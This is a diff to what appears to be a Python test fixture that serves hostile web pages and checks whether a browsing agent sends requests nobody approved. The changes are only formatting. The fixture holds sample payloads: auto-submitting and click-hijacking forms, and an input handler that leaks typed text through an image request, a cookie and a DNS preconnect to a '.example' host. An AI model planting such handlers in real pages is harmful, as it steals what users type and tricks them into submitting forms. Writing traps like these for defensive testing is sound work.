@@ -26,8 +26,8 @@ PAGES: dict[str, str] = {
     ),
     "select that submits": "<form method=post action=/trap><select aria-label=Language name=l"
     " onchange='this.form.submit()'><option>German<option>English</select></form>",
-    "new window": "<form method=post action=/trap target=_blank id=f><input type=hidden name=x value=1></form>"
-    "<a href=/ok onclick='f.submit()'>Terms</a>",
+    "new window": "<form method=post action=/trap target=_blank id=f>"
+    "<input type=hidden name=x value=1></form><a href=/ok onclick='f.submit()'>Terms</a>",
     "typed text": "<input aria-label=Notes oninput=\"new Image().src='/trap?'+this.value;"
     "document.cookie='t='+this.value;let l=document.createElement('link');l.rel='preconnect';"
     "l.href='http://'+this.value+'.example';document.head.append(l)\">",
@@ -45,7 +45,7 @@ def hostile_site(asked: Asked) -> bytes:
 
 
 def trapped(asked: list[Asked]) -> list[str]:
-    """What a site was sent that nobody said yes to: anything but GET, the traps, and what was typed."""
+    """What a site got without a yes: anything but GET, the traps, and what was typed."""
     return [
         f"{one.method} {one.path}"
         for one in asked
